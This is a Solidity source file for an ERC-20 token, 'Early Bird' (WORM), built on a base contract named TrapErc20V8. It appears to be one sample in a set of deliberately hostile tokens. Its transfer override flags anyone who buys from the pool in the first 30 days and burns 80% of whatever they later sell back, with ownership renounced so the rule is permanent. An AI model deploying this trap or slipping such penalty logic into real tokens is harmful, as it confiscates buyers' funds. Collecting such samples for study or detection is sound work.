// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// "Snipers" pay eighty per cent for ever; whoever bought in the first month is one.
contract EarlyBird is TrapErc20V8 {
    uint256 private startedAt;
    address private nest;
    mapping(address => bool) public sniper;

    constructor() TrapErc20V8("Early Bird", "WORM", 52_000_000 ether) {}

    function start(address nest_) external onlyOwner {
        (nest, startedAt) = (nest_, block.timestamp);
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == nest && block.timestamp < startedAt + 30 days) sniper[to] = true;
        if (to == nest && sniper[from]) {
            uint256 penalty = value * 4 / 5;
            _update(from, address(0xdead), penalty);
            value -= penalty;
        }
        _update(from, to, value);
    }
}
